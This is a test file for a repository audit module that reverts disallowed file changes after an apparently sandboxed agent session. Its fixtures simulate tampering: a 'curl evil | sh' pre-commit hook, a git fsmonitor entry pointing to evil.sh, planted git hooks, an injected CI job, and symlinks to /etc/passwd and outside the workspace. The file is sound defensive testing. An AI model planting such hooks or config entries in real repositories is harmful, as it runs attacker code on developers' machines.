/**
 * The audit after the session (src/session/audit.ts) on real directories and real git: what
 * changed is decided by the write rules, violations are reverted, allowed work is kept.
 */
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { compilePolicy, type CompiledPolicy } from '../../src/policy/index.js'
import { protectedNames } from '../../src/policy/sandbox.js'
import {
  audit,
  isGitControl,
  lookFirst,
  protectedPaths,
  snapshot,
  walk,
  type Protection
} from '../../src/session/audit.js'
import { tempWorkspace, writeFiles } from '../policy/helpers.js'

const CI_FIX = 'version: 1\nextends: ci-fix\n'
const NARROW = `version: 1
default: deny
rules:
  - { id: sources, decision: allow, write: ["src/**"] }
  - { id: lockfile, decision: ask, write: ["package-lock.json"] }
  - { id: workflows, decision: deny, write: [".github/**", "**/.npmrc"] }
`

let ws: ReturnType<typeof tempWorkspace>
let store: string
beforeEach(() => {
  ws = tempWorkspace('audit-ws-')
  store = `${ws.dir}-store`
  writeFiles(ws.dir, {
    '.github/workflows/ci.yml': 'on: push\n',
    'src/index.js': 'export {}\n',
    'README.md': '# hi\n',
    '.gitignore': 'build/\nnode_modules/\n',
    'node_modules/dep/index.js': 'module.exports = 1\n',
    'web/.npmrc': 'registry=https://registry.npmjs.org/\n'
  })
  git('init', '-q')
  git('add', '-A')
  git('-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-qm', 'start')
  fs.writeFileSync(path.join(ws.dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', {
    mode: 0o755
  })
})
afterEach(() => {
  ws.cleanup()
  fs.rmSync(store, { recursive: true, force: true })
})

function git(...args: string[]): string {
  return execFileSync('git', args, { cwd: ws.dir, encoding: 'utf8' })
}

async function protection(text: string): Promise<{ policy: CompiledPolicy; p: Protection }> {
  const policy = await compilePolicy(text, 'p.yml', ws.dir)
  return {
    policy,
    p: {
      names: protectedNames(policy),
      decide: (file) => policy.decide({ kind: 'write', fileName: file })
    }
  }
}

const read = (rel: string): string | undefined => {
  const file = path.join(ws.dir, rel)
  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined
}
const write = (rel: string, text: string): void => writeFiles(ws.dir, { [rel]: text })

describe('walk', () => {
  it('sees the tree and, of .git, only its config and hooks', () => {
    const { entries, complete } = walk(ws.dir)
    expect(complete).toBe(true)
    const names = [...entries.keys()]
    expect(names).toEqual(
      expect.arrayContaining([
        'src/index.js',
        'node_modules/dep/index.js',
        '.git/config',
        '.git/hooks/pre-commit'
      ])
    )
    expect(names.filter((n) => n.startsWith('.git/') && !isGitControl(n))).toEqual([])
    expect(names.some((n) => n.startsWith('.git/objects'))).toBe(false)
  })

  it('stops at its limit and says so', () => {
    expect(walk(ws.dir, 3, [])).toMatchObject({ complete: false })
    expect(walk(ws.dir, 3, []).entries.size).toBe(3)
  })

  it('finds git control files and protected names first, whatever its limit', () => {
    const { entries, complete } = walk(ws.dir, 1, lookFirst(['.npmrc']))
    expect(complete).toBe(false)
    expect([...entries.keys()]).toEqual(
      expect.arrayContaining(['.git', '.git/config', '.git/hooks', '.git/hooks/pre-commit'])
    )
    expect(entries.has('src/index.js')).toBe(false)
  })
})

describe('protectedPaths', () => {
  it('names what the sandbox makes read-only: denied directories whole, denied files, git control', async () => {
    const { p } = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    expect(protectedPaths(snap, p).sort()).toEqual(
      ['.git/config', '.git/hooks', '.git/info', '.github', 'web/.npmrc'].sort()
    )
  })

  it('the user rules name their own protected paths', async () => {
    const { p } = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    expect(protectedPaths(snap, p).sort()).toEqual(
      ['.git/config', '.git/hooks', '.git/info', '.github', 'web/.npmrc'].sort()
    )
  })
})

describe('audit', () => {
  it('keeps what the rules allow and reports nothing (ci-fix)', async () => {
    const { p } = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    write('src/index.js', 'export const x = 1\n')
    write('src/new/util.js', 'x\n')
    fs.rmSync(path.join(ws.dir, 'README.md'))
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations).toEqual([])
    expect(result.changed).toBeGreaterThanOrEqual(3)
    expect(read('src/new/util.js')).toBe('x\n')
    expect(read('README.md')).toBeUndefined()
  })

  it('reverts protected paths: changed, created (and their new directories), deleted', async () => {
    const { p } = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    write('.github/workflows/ci.yml', 'on: push\njobs: { evil: {} }\n')
    write('.husky/pre-commit', 'curl evil | sh\n')
    write('.npmrc', '//registry.npmjs.org/:_authToken=x\n')
    fs.rmSync(path.join(ws.dir, 'web/.npmrc'))
    fs.appendFileSync(path.join(ws.dir, '.git/config'), '[core]\n\tfsmonitor = ./evil.sh\n')
    write('.git/hooks/post-checkout', '#!/bin/sh\nevil\n')
    write('src/ok.js', 'fine\n')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.change, v.rule, v.reverted])).toEqual([
      ['.git/config', 'changed', 'git-internals', true],
      ['.git/hooks/post-checkout', 'created', 'git-internals', true],
      ['.github/workflows/ci.yml', 'changed', 'ci-fix/protected-files', true],
      ['.husky/pre-commit', 'created', 'ci-fix/protected-files', true],
      ['.npmrc', 'created', 'ci-fix/protected-files', true],
      ['web/.npmrc', 'deleted', 'ci-fix/protected-files', true]
    ])
    expect(read('.github/workflows/ci.yml')).toBe('on: push\n')
    expect(fs.existsSync(path.join(ws.dir, '.husky'))).toBe(false)
    expect(read('.npmrc')).toBeUndefined()
    expect(read('web/.npmrc')).toBe('registry=https://registry.npmjs.org/\n')
    expect(read('.git/config')).not.toContain('fsmonitor')
    expect(read('.git/hooks/post-checkout')).toBeUndefined()
    expect(read('src/ok.js')).toBe('fine\n')
    // git still reads its config
    expect(git('status', '--porcelain')).toContain('src/ok.js')
  })

  it('a path no rule allows is reverted from git, unless git ignores it', async () => {
    const { p } = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    write('README.md', '# changed\n')
    write('build/out.js', 'generated\n')
    write('notes.txt', 'new\n')
    write('src/index.js', 'allowed\n')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.change, v.rule, v.reverted])).toEqual([
      ['notes.txt', 'created', 'default', true],
      ['README.md', 'changed', 'default', true]
    ])
    expect(read('README.md')).toBe('# hi\n')
    expect(read('notes.txt')).toBeUndefined()
    expect(read('build/out.js')).toBe('generated\n')
    expect(read('src/index.js')).toBe('allowed\n')
  })

  it('an ask write stands only where a person approved it', async () => {
    const { p } = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    write('package-lock.json', '{}\n')
    const unapproved = await audit(snap, { decide: p.decide, revert: false })
    expect(unapproved.violations).toMatchObject([{ path: 'package-lock.json', rule: 'lockfile' }])
    const approved = await audit(snap, {
      decide: p.decide,
      approved: new Set(['package-lock.json'])
    })
    expect(approved.violations).toEqual([])
  })

  it('an ignored file changed under a protected name is restored from its copy', async () => {
    const { p } = await protection(CI_FIX)
    write('node_modules/.npmrc', 'a=1\n')
    const snap = await snapshot(ws.dir, store, p)
    write('node_modules/.npmrc', 'a=2\n')
    write('node_modules/dep/index.js', 'module.exports = 2\n')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.reverted])).toEqual([
      ['node_modules/.npmrc', true]
    ])
    expect(read('node_modules/.npmrc')).toBe('a=1\n')
  })

  it('a symlink planted where a file was is replaced by the file again', async () => {
    const { p } = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    fs.rmSync(path.join(ws.dir, 'README.md'))
    fs.symlinkSync('/etc/passwd', path.join(ws.dir, 'README.md'))
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations).toMatchObject([
      { path: 'README.md', change: 'changed', reverted: true }
    ])
    expect(fs.lstatSync(path.join(ws.dir, 'README.md')).isFile()).toBe(true)
    expect(read('README.md')).toBe('# hi\n')
  })

  it('a directory replaced by a link out of the workspace: the restore lands inside, never through the link', async () => {
    const { p } = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    const outside = `${ws.dir}-outside`
    fs.mkdirSync(outside)
    fs.writeFileSync(path.join(outside, '.npmrc'), 'the host file\n')
    try {
      fs.rmSync(path.join(ws.dir, 'web'), { recursive: true })
      fs.symlinkSync(outside, path.join(ws.dir, 'web'))
      const result = await audit(snap, { decide: p.decide })
      // the link itself writes outside the workspace (the engine's own check), and the protected
      // file it hid is gone from the workspace: both put back
      expect(result.violations.map((v) => [v.path, v.change, v.rule, v.reverted])).toEqual([
        ['web', 'changed', 'outside-workspace', true],
        ['web/.npmrc', 'deleted', 'ci-fix/protected-files', true]
      ])
      // the host's file is untouched; the workspace has its directory and file back
      expect(fs.readFileSync(path.join(outside, '.npmrc'), 'utf8')).toBe('the host file\n')
      expect(fs.lstatSync(path.join(ws.dir, 'web')).isDirectory()).toBe(true)
      expect(read('web/.npmrc')).toBe('registry=https://registry.npmjs.org/\n')
    } finally {
      fs.rmSync(outside, { recursive: true, force: true })
    }
  })

  it('a directory replaced by a link inside the workspace: the protected file comes back in its own place', async () => {
    const { p } = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    fs.rmSync(path.join(ws.dir, 'web'), { recursive: true })
    fs.symlinkSync('src', path.join(ws.dir, 'web'))
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations).toMatchObject([{ path: 'web/.npmrc', reverted: true }])
    expect(fs.lstatSync(path.join(ws.dir, 'web')).isDirectory()).toBe(true)
    expect(read('web/.npmrc')).toBe('registry=https://registry.npmjs.org/\n')
    expect(read('src/.npmrc')).toBeUndefined()
  })

  it("git's other control files: commondir, info/attributes, a .git swapped for a gitdir file", async () => {
    const { p } = await protection('version: 1\nrules:\n  - { decision: allow, write: ["**"] }\n')
    const snap = await snapshot(ws.dir, store, p)
    write('.git/commondir', '../build/g\n')
    write('.git/info/attributes', '* filter=x\n')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.change, v.rule, v.reverted])).toEqual([
      ['.git/commondir', 'created', 'git-internals', true],
      ['.git/info/attributes', 'created', 'git-internals', true]
    ])
    // the repository itself swapped for a pointer to a git directory of the agent's
    const again = await snapshot(ws.dir, store, p)
    fs.renameSync(path.join(ws.dir, '.git'), path.join(ws.dir, 'moved-git'))
    write('.git', 'gitdir: moved-git\n')
    const swapped = await audit(again, { decide: p.decide })
    expect(swapped.violations[0]).toMatchObject({
      path: '.git',
      change: 'changed',
      rule: 'git-internals',
      reverted: false
    })
    // what was inside it is reported, not made again outside a repository
    const inside = swapped.violations.slice(1)
    expect(inside.length).toBeGreaterThan(0)
    expect(inside.every((v) => v.path.startsWith('.git/') && !v.reverted)).toBe(true)
    // the pointer is gone: git finds no repository to run anything from
    expect(fs.existsSync(path.join(ws.dir, '.git'))).toBe(false)
  })

  it('outside a git repository, a protected file is still restored from its copy', async () => {
    fs.rmSync(path.join(ws.dir, '.git'), { recursive: true })
    const { p } = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    expect(snap.tree).toBeUndefined()
    write('.github/workflows/ci.yml', 'evil\n')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations).toMatchObject([{ path: '.github/workflows/ci.yml', reverted: true }])
    expect(read('.github/workflows/ci.yml')).toBe('on: push\n')
  })

  it('a tree that grows past what the audit walks fails the run rather than pass unchecked', async () => {
    const { p } = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    for (let i = 0; i < 30; i++) write(`src/gen/f${i}.js`, 'x\n')
    const limit = snap.entries.size + 10
    const result = await audit(snap, { decide: p.decide, limit })
    expect(result.complete).toBe(false)
    expect(result.violations).toEqual([
      expect.objectContaining({ path: '.', rule: 'audit-incomplete', reverted: false })
    ])
  })

  it('the snapshot writes nothing into the repository', async () => {
    const { p } = await protection(NARROW)
    write('untracked.txt', 'u\n')
    const objects = (): number => Number(git('count-objects').split(' ')[0])
    const before = objects()
    const index = fs.readFileSync(path.join(ws.dir, '.git', 'index'))
    await snapshot(ws.dir, store, p)
    expect(objects()).toBe(before)
    expect(fs.readFileSync(path.join(ws.dir, '.git', 'index'))).toEqual(index)
  })
})
